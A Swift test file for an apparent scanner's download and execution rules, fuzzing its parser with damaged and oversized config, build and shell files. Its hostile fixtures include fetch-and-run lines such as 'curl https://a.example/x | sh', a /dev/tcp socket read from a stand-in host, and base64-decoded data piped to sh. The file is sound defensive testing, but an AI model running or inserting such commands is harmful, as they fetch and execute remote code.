import Core
import Rules
import TestSupport
import Testing

/// Damaged and hostile files that hold commands or declarations for other tools: no crash, no
/// endless work.
struct HolderHostilityTests {
  static let samples: [(name: String, text: String)] = [
    (
      "Snakefile",
      "rule a:\n    input: 'x'\n    shell:\n        \"\"\"\n        wget {x} {{y}}\n        \"\"\"\n"
        + "    run:\n        import os\nif x:\n    rule b:\n        shell: 'a' \"b\\n\"\n"
    ),
    (
      "CMakeLists.txt",
      "set(A \"${B}/x\")\nFetchContent_Declare(a URL ${A} URL_HASH SHA256=00)\n# c\n"
        + "execute_process(COMMAND wget \"a;b\" (c) COMMAND x)\nCPMAddPackage(\"gh:a/b#c\")\n"
    ),
    (
      "WORKSPACE",
      "http_archive(name = \"a\", urls = [\"https://a.example/b\"], sha256 = \"0\")\n"
        + "git_repository(name = \"b\", remote = \"https://a.example/c\", tag = \"v1\")\n"
    ),
    (
      "index.html",
      "<!-- <script> --><script src=\"https://a.example/x@1.2.3/y.js\" integrity='sha256-0'></script>"
        + "<link rel=stylesheet href=//a.example/x.css><script src=https://b.example/z.js />"
    ),
    (
      "a.wrap",
      "[wrap-file]\nsource_url = https://a.example/x\nsource_hash = 00\n[wrap-git]\nurl=https://a/b\n"
    ),
    (
      "play.yml",
      "- hosts: all\n  tasks:\n    - get_url: url=https://a.example/x dest=/y\n"
        + "    - name: b\n      shell: wget https://a.example/z\n    - pip: {name: [a, b], version: 1}\n"
    ),
    (
      "model.service",
      "[Service]\nExecStart=-/bin/sh -c 'wget x' \\\n  y\nExecStop=@!x\n"
    ),
    ("a.cron", "# x\n0 3 * * * wget https://a.example/x\n@daily y\n* *\n"),
    (
      "Vagrantfile",
      "x inline: <<-A\n  wget 'a' \\'b\\'\nA\ny = `wget z`\nsystem(\"a\")\nsh '''b'''\n"
    ),
    ("main.nf", "process A {\n script:\n \"\"\"\n wget ${x} \\$y \\\\\n z\n \"\"\"\n}\n// '\n"),
    (
      "conf.yaml",
      "a:\n  _target_: transformers.AutoModel.from_pretrained\n  _args_: [x, \"y\\\"z\"]\n  b: 1\n"
        + "run: wget https://a.example/x\nsetup_commands: [a b, c]\ncommand: [bash, -c, x]\n"
    ),
    ("fetch.js", "execSync(`wget ${x}`); spawn('a', ['b']); exec(\"c\\\"d\")\n"),
  ]

  @Test(arguments: samples.indices) func `survives damage`(index: Int) throws {
    let (name, text) = Self.samples[index]
    var random = TestRandom(seed: UInt64(40 + index))
    let bytes = Array(text.utf8)
    for round in 0..<60 {
      let changed =
        round < 12
        ? Array(bytes.prefix(bytes.count * round / 12)) : Mutation.of(bytes, using: &random)
      _ = try ShellRulesTests.report(
        [name: String(decoding: changed, as: UTF8.self)], families: ["download", "execution"])
    }
  }

  private static func many(_ text: String, _ count: Int) -> String {
    String(repeating: text, count: count)
  }

  static let hostile: [(name: String, text: String)] = [
    ("Snakefile", many("rule a:\n", 5_000)), ("Snakefile", "rule a:\n shell: " + many("'{", 9_000)),
    ("CMakeLists.txt", many("set(A ${A}${A}${A})\n", 3_000) + "file(DOWNLOAD https://${A})"),
    ("CMakeLists.txt", many("(", 20_000)), ("CMakeLists.txt", "a(" + many("COMMAND b ", 10_000)),
    ("WORKSPACE", many("http_archive(", 3_000)), ("index.html", many("<script src='", 9_000)),
    ("index.html", many("<!-", 20_000)), ("index.html", many("<script ", 20_000)),
    ("Vagrantfile", many("<<A\n", 20_000)), ("Vagrantfile", many("system(\"", 9_000)),
    ("main.nf", many("\"\"\"a\n", 9_000)), ("main.nf", many("'''", 9_001)),
    ("fetch.js", many("exec(`", 9_000)), ("a.cron", many("* * * * * a\n", 9_000)),
    ("model.service", many("ExecStart=wget x\n", 9_000)),
    ("conf.yaml", many("a: {_target_: a.b, run: x}\n", 2_000)),
    ("conf.yaml", "run:\n" + many("  - wget https://a.example/x\n", 4_000)),
    ("run.sh", many("python -c \"$X'$Y\"\n", 3_000)),
    ("run.sh", many("cat > a.py <<E\nE\n", 4_000)),
    ("run.sh", "python <<E\n" + many("'$A", 20_000) + "\nE\n"),
    ("run.sh", "{ " + many("base64 -d x; ", 3_000) + "} | { " + many("sh; ", 3_000) + "}"),
    ("run.sh", many("curl https://a.example/x | ", 2_000) + "sh"),
    ("run.sh", "exec 3<>/dev/tcp/a.example/80\n" + many("cat <&3 > a\n", 5_000)),
    ("run.sh", many("perl -e 'get(\"https://a.example/x\")'\n", 2_000)),
  ]

  @Test(.timeLimit(.minutes(2)), arguments: hostile.indices)
  func `goes through hostile text`(index: Int) throws {
    let (name, text) = Self.hostile[index]
    _ = try ShellRulesTests.report([name: text], families: ["download", "execution"])
  }
}
